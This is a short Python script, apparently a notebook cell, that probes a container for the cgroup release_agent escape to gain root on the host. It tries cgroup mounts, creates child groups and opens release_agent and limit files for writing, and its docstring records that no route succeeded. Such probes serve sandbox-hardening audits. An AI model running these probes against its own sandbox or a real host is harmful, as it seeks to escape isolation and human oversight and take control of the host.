"""Looks for a control group to leave, to raise, or to give a release agent that the host runs as root.

naive: root on the host, the container escape that needs fewest lines.
uses: attempt
reached: through: []
reached: folders above its own group: 0
"""

# %%
attempt("mount v1", lambda: libc.mount(b"cgroup", b"/tmp", b"cgroup", 0, b"rdma"))
attempt("mount v2", lambda: libc.mount(b"cgroup2", b"/tmp", b"cgroup2", 0, None))
found = [line.split()[4] for line in open("/proc/self/mountinfo") if " - cgroup" in line]
for top in {*found, "/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids"}:
    attempt(f"mkdir {top}", lambda: os.mkdir(f"{top}/mine"), 2)
    for name in ("release_agent", "cgroup.procs", "memory.limit_in_bytes", "memory.max", "pids.max", "notify_on_release"):
        attempt(f"{top}/{name}", lambda: os.open(f"{top}/{name}", os.O_WRONLY), 2)
print(f"{len(tried)} attempts, through: {through}")
print("folders above its own group:", max(line.strip().count("/") - 1 for line in open("/proc/self/cgroup")))
